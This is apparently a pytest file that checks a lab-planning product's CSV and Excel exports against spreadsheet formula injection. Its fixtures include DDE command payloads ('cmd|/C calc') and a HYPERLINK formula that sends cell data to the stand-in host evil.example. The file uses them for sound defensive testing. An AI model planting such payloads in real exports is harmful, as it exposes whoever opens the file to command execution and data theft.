"""Exports are safe to open in Excel: no text cell is a formula, numbers stay numbers.

Every writer of the product is checked here: ``planner export`` (wide and ``--long``), the
dashboard downloads, plate sheets, and :mod:`campaigns.exports` itself.
"""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from campaigns.errors import CampaignError
from campaigns.exports import excel_safe, frame_bytes, neutralise, unquote, write_frame
from campaigns.ingest import MeasurementRecord, ParsedPlate, parse_plate
from campaigns.plate import fill_layout, layout
from campaigns.sheet import SheetWell, template_frame, write_template
from campaigns.store import Store
from campaigns.templates import load_template
from dashboard import tables
from planner.cli import app
from planner.design import space_filling_design

NOTE = "=cmd|' /C calc'!A0"
OPERATOR = '=HYPERLINK("http://evil.example/steal?x="&A1, "click me")'
ATTACKS = [NOTE, OPERATOR, "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
HARMLESS = ["ana", "", "LiPF6", "-", "-3.5", "+2", "1e-3", "'=already quoted", " =leading space"]


def _texts(sheet) -> list[object]:  # noqa: ANN001 - an openpyxl worksheet
    return [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]


def _no_formulas(book: openpyxl.Workbook) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


# --- the rule ------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ATTACKS, ids=lambda t: repr(t[:12]))
def test_text_that_starts_a_formula_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_plain_text_and_number_shaped_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


# Text that itself starts with a quote and a formula character is the one ambiguous case: a
# spreadsheet reads it as quoted text too.
@pytest.mark.parametrize("text", [t for t in ATTACKS + HARMLESS if not t.startswith("'")],
                         ids=repr)
def test_unquote_reads_back_what_neutralise_wrote(text: str) -> None:
    assert unquote(neutralise(text)) == text


def test_excel_safe_touches_text_only_and_keeps_numeric_dtypes() -> None:
    frame = pd.DataFrame({
        "note": [NOTE, "fine", None],
        "value": [-3.5, 2.0, float("nan")],
        "count": pd.Series([-1, 2, 3], dtype="int64"),
        "flag": [True, False, True],
        "=header": ["a", "b", "c"],
    })
    safe = excel_safe(frame)
    assert safe["note"].tolist()[:2] == ["'" + NOTE, "fine"] and pd.isna(safe["note"].iloc[2])
    assert list(safe.columns) == ["note", "value", "count", "flag", "'=header"]
    for col in ("value", "count", "flag"):
        assert safe[col].dtype == frame[col].dtype
    assert safe["value"].iloc[0] == -3.5 and safe["count"].iloc[0] == -1
    assert frame["note"].iloc[0] == NOTE  # the caller's frame is not changed


def test_excel_safe_writes_times_in_utc_without_time_zone() -> None:
    cet = timezone(timedelta(hours=1))
    frame = pd.DataFrame({
        "stored": pd.to_datetime(["2026-03-14 12:00"]).tz_localize("Europe/Berlin"),
        "mixed": pd.Series([datetime(2026, 3, 14, 13, 0, tzinfo=cet)], dtype=object),
    })
    safe = excel_safe(frame)
    assert safe["stored"].iloc[0] == pd.Timestamp("2026-03-14 11:00")
    assert safe["mixed"].iloc[0] == datetime(2026, 3, 14, 12, 0)
    book = openpyxl.load_workbook(io.BytesIO(frame_bytes(frame, fmt="xlsx")))
    assert book.active["A2"].value == datetime(2026, 3, 14, 11, 0)


def test_csv_cells_are_quoted_and_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"Notes": ATTACKS, "value": [-3.5] * len(ATTACKS)})
    path = tmp_path / "out.csv"
    write_frame(frame, path, fmt="csv")
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["Notes", "value"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in ATTACKS]
    assert {r[1] for r in rows[1:]} == {"-3.5"}
    assert pd.read_csv(path)["value"].dtype == "float64"


def test_xlsx_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame({"Notes": ATTACKS, "value": [-3.5] * len(ATTACKS),
                          "=SUM(A1)": ["x"] * len(ATTACKS)})
    path = tmp_path / "out.xlsx"
    write_frame(frame, path, fmt="xlsx")
    book = openpyxl.load_workbook(path)
    _no_formulas(book)
    sheet = book.active
    assert [c.value for c in sheet[1]] == ["Notes", "value", "'=SUM(A1)"]
    # XML reads a raw carriage return back as a line feed; the quote is what matters here.
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(ATTACKS))] == [
        "'" + t.replace("\r", "\n") for t in ATTACKS]
    assert sheet["B2"].data_type == "n" and sheet["B2"].value == -3.5


def test_xlsx_replaces_characters_xml_cannot_hold(tmp_path: Path) -> None:
    frame = pd.DataFrame({"Notes": ["bell\x07 and\x00nul"]})
    path = tmp_path / "out.xlsx"
    write_frame(frame, path, fmt="xlsx")  # openpyxl would refuse the raw text
    assert openpyxl.load_workbook(path).active["A2"].value == "bell\ufffd and\ufffdnul"


def test_unwritable_target_and_unknown_format_are_campaign_errors(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [1]})
    with pytest.raises(CampaignError) as info:
        write_frame(frame, tmp_path / "missing" / "out.csv", fmt="csv")
    assert "not open in Excel" in info.value.hint
    with pytest.raises(CampaignError):
        write_frame(frame, tmp_path / "out.ods", fmt="ods")  # type: ignore[arg-type]


# --- planner export ------------------------------------------------------------------------------
@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    """A campaign whose stored operator and notes are formulas, with a corrected value."""
    url = f"sqlite:///{tmp_path / 'x.db'}"
    spec = load_template("hard-carbon", name="demo")
    recipes = space_filling_design(spec, spec.sample_well_count, seed=0).to_dict(orient="records")
    with Store.open(url) as store:
        store.create_campaign(spec)
        batch = store.save_batch("demo", iso_week="2026-W10",
                                 wells=fill_layout(spec.plate, recipes), generator="test", seed=0,
                                 data_revision=0)
        for tag, value in (("first", -3.5), ("again", 81.5)):
            rec = MeasurementRecord(well="A2", quantity="ice_pct", value=value, unit="%",
                                    status="ok", operator=OPERATOR, instrument="-ch1",
                                    measured_at=datetime(2026, 3, 14, 12, tzinfo=UTC),
                                    source_row=2, note=NOTE)
            parsed = ParsedPlate(filename=f"=evil-{tag}.csv",
                                 sha256=hashlib.sha256(tag.encode()).hexdigest(), batch_id=batch.id,
                                 n_rows=1, records=(rec,), warnings=())
            store.ingest("demo", parsed, batch_id=batch.id)
    return url


@pytest.mark.parametrize("long", [False, True], ids=["wide", "long"])
def test_planner_export_xlsx_has_no_formulas(hostile_db: str, tmp_path: Path, long: bool) -> None:
    out = tmp_path / "e.xlsx"
    args = ["export", "--campaign", "demo", "--out", str(out), "--db", hostile_db]
    result = CliRunner().invoke(app, args + (["--long"] if long else []), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    _no_formulas(book)
    texts = _texts(book.active)
    assert "'" + OPERATOR in texts and "'-ch1" in texts
    assert OPERATOR not in texts and NOTE not in texts
    if long:
        assert "'" + NOTE in texts and "'=evil-first.csv" in texts
    back = pd.read_excel(out)
    values = back["value"] if long else back["ice_pct"]
    assert pd.api.types.is_float_dtype(values)
    assert sorted(values.dropna()) == ([-3.5, 81.5] if long else [81.5])


@pytest.mark.parametrize("long", [False, True], ids=["wide", "long"])
def test_planner_export_csv_quotes_formulas(hostile_db: str, tmp_path: Path, long: bool) -> None:
    out = tmp_path / "e.csv"
    args = ["export", "--campaign", "demo", "--out", str(out), "--db", hostile_db]
    result = CliRunner().invoke(app, args + (["--long"] if long else []), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + OPERATOR in cells and OPERATOR not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    if long:
        assert "'" + NOTE in cells and "-3.5" in cells


def test_planner_export_refuses_other_suffixes(hostile_db: str, tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["export", "--campaign", "demo", "--out",
                                      str(tmp_path / "e.ods"), "--db", hostile_db])
    assert result.exit_code == 1
    assert ".xlsx" in result.output and not (tmp_path / "e.ods").exists()


# --- dashboard downloads -------------------------------------------------------------------------
def test_dashboard_downloads_are_safe() -> None:
    frame = pd.DataFrame({"Note": [NOTE], "Value": [-3.5]})
    text = tables.csv_bytes(frame).decode("utf-8")
    assert text.splitlines() == ["Note,Value", f"'{NOTE},-3.5"]
    book = openpyxl.load_workbook(io.BytesIO(tables.xlsx_bytes(frame, sheet="Mine")))
    _no_formulas(book)
    assert book.sheetnames == ["Mine"] and book["Mine"]["A2"].value == "'" + NOTE
    assert book["Mine"]["B2"].value == -3.5


# --- plate sheets --------------------------------------------------------------------------------
def _hostile_sheet():  # noqa: ANN202
    spec = load_template("electrolyte")
    wells = [SheetWell(s.well, s.role, {"salt": "=HYPERLINK(\"x\")"} if s.role == "sample" else {})
             for s in layout(spec.plate)]
    return spec, template_frame(spec, batch_id=3, wells=wells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_plate_sheet_is_safe_and_still_reads_back(tmp_path: Path, fmt: str) -> None:
    spec, frame = _hostile_sheet()
    path = tmp_path / f"plate.{fmt}"
    write_template(frame, path)
    if fmt == "xlsx":
        book = openpyxl.load_workbook(path)
        _no_formulas(book)
        assert book.sheetnames == ["Plate", "Instructions"]
        filled = pd.read_excel(path, sheet_name="Plate", dtype=str)
    else:
        filled = pd.read_csv(path, dtype=str, encoding="utf-8-sig")
    assert "'=HYPERLINK(\"x\")" in set(filled["Salt"])
    assert list(filled.columns) == list(frame.columns)  # headers and roles are untouched
    assert list(filled["Role"]) == list(frame["Role"])
    # the lab fills one result column, writes a note that looks like a formula, and uploads it
    target = spec.output_columns()[-1]
    lo, hi = target.typical
    filled[target.label] = str((lo + hi) / 2)
    filled.loc[0, "Notes"] = "-20 °C storage"
    data = filled.to_csv(index=False).encode()
    expected = {s.well: s.role for s in layout(spec.plate)}
    parsed = parse_plate(data, filename="plate.csv", spec=spec, expected_wells=expected)
    assert parsed.batch_id == 3
    values = [r for r in parsed.records if r.quantity == target.name]
    assert len(values) == len(frame) and {r.value for r in values} == {(lo + hi) / 2}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("salt", ["LiPF6", "@LiFSI", "=x", "-LiTFSI"])
def test_a_plate_sheet_with_formula_like_recipe_text_uploads_again(
        tmp_path: Path, salt: str, suffix: str) -> None:
    """The quote an export puts before formula-like text is taken off when the sheet comes back,
    so the recipe check sees the stored recipe, not a mismatch."""
    spec = load_template("electrolyte")
    slots = layout(spec.plate)
    recipes = {s.well: ({"salt": salt} if s.role == "sample" else {}) for s in slots}
    frame = template_frame(spec, batch_id=3, wells=[SheetWell(s.well, s.role, recipes[s.well])
                                                    for s in slots])
    frame[spec.output_columns()[-1].label] = 90.0
    path = tmp_path / f"plate{suffix}"
    write_template(frame, path)
    parsed = parse_plate(path.read_bytes(), filename=path.name, spec=spec,
                         expected_wells={s.well: s.role for s in slots},
                         expected_recipes=recipes)
    assert len(parsed.records) == len(slots)
